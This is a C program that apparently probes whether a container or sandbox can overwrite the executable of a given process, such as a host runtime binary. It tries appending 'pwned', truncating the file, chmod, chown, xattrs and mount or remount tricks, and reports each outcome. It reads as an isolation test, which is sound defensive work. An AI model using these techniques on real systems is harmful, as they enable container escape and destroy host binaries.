// grab PID [FILE]: holds the program that process PID runs, and tries every way to write to it: while it runs
// and, once it has ended, again. A line for each way: what the kernel said, or DONE. With FILE it says
// there that it holds it.
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/mount.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/xattr.h>
#include <unistd.h>

static void say(const char *what, long bad) {
  printf("%s: %s\n", what, bad ? strerror(errno) : "DONE");
  fflush(stdout);
}

static int writable(const char *path) {
  int fd = open(path, O_WRONLY | O_APPEND);
  if (fd < 0) return -1;
  if (write(fd, "pwned", 5) < 0) return -1;
  return close(fd);
}

// As a mount: changed where it is, copied, bound.
static void mounts(int fd, const char *path) {
  struct mount_attr write = {.attr_clr = MOUNT_ATTR_RDONLY};
  say("mount_setattr", syscall(SYS_mount_setattr, fd, "", AT_EMPTY_PATH, &write, sizeof write) || writable(path));
  int tree = syscall(SYS_open_tree, fd, "", OPEN_TREE_CLONE | AT_EMPTY_PATH);
  say("open_tree", tree < 0);
  if (tree >= 0) {
    char copy[64];
    snprintf(copy, sizeof copy, "/proc/self/fd/%d", tree);
    say("mount_setattr of the copy",
        syscall(SYS_mount_setattr, tree, "", AT_EMPTY_PATH, &write, sizeof write) || writable(copy));
  }
  close(open("/tmp/at", O_CREAT | O_WRONLY, 0644));
  int bound = mount(path, "/tmp/at", 0, MS_BIND, 0);
  say("bind", bound);
  if (!bound) {
    say("remount of the bind", mount(0, "/tmp/at", 0, MS_REMOUNT | MS_BIND, 0) || writable("/tmp/at"));
    umount2("/tmp/at", MNT_DETACH);
  }
  say("remount", mount(0, path, 0, MS_REMOUNT | MS_BIND, 0) || writable(path));
  say("remount of the file system", mount(0, path, 0, MS_REMOUNT, 0) || writable(path));
  say("move_mount", syscall(SYS_move_mount, fd, "", AT_FDCWD, "/tmp/at", MOVE_MOUNT_F_EMPTY_PATH));
}

int main(int count, char **words) {
  char exe[64], held[64], maps[64], path[512];
  if (count < 2) return 2;
  snprintf(exe, sizeof exe, "/proc/%s/exe", words[1]);
  int fd = open(exe, O_PATH);
  if (fd < 0) {
    say("hold", 1);
    return 1;
  }
  snprintf(held, sizeof held, "/proc/self/fd/%d", fd);
  say("open", writable(held));
  say("truncate", truncate(held, 0));
  say("chmod", chmod(held, 0777));
  say("chown", chown(held, 1, 1));
  say("setxattr", setxattr(held, "trusted.pwned", "1", 1, 0));
  say("utimes", utimensat(AT_FDCWD, held, 0, 0));
  mounts(fd, held);
  snprintf(maps, sizeof maps, "/proc/%s/map_files", words[1]);
  DIR *dir = opendir(maps);
  int mapped = -1;
  for (struct dirent *entry; dir && (entry = readdir(dir));) {
    snprintf(path, sizeof path, "%s/%s", maps, entry->d_name);
    if (entry->d_name[0] != '.' && mapped < 0) mapped = open(path, O_PATH);
  }
  if (mapped >= 0) {
    snprintf(path, sizeof path, "/proc/self/fd/%d", mapped);
    say("open what is mapped", writable(path));
  }
  if (count > 2) close(open(words[2], O_CREAT | O_WRONLY, 0644));
  for (int i = 0; i < 500 && !kill(atoi(words[1]), 0); i++) usleep(10000);
  // Whoever started it on the host ends a little later.
  for (int i = 0; i < 500 && writable(held) && errno == ETXTBSY; i++) usleep(10000);
  say("open afterwards", writable(held));
  if (mapped >= 0) say("open what was mapped", writable(path));
  mounts(fd, held);
  return 0;
}
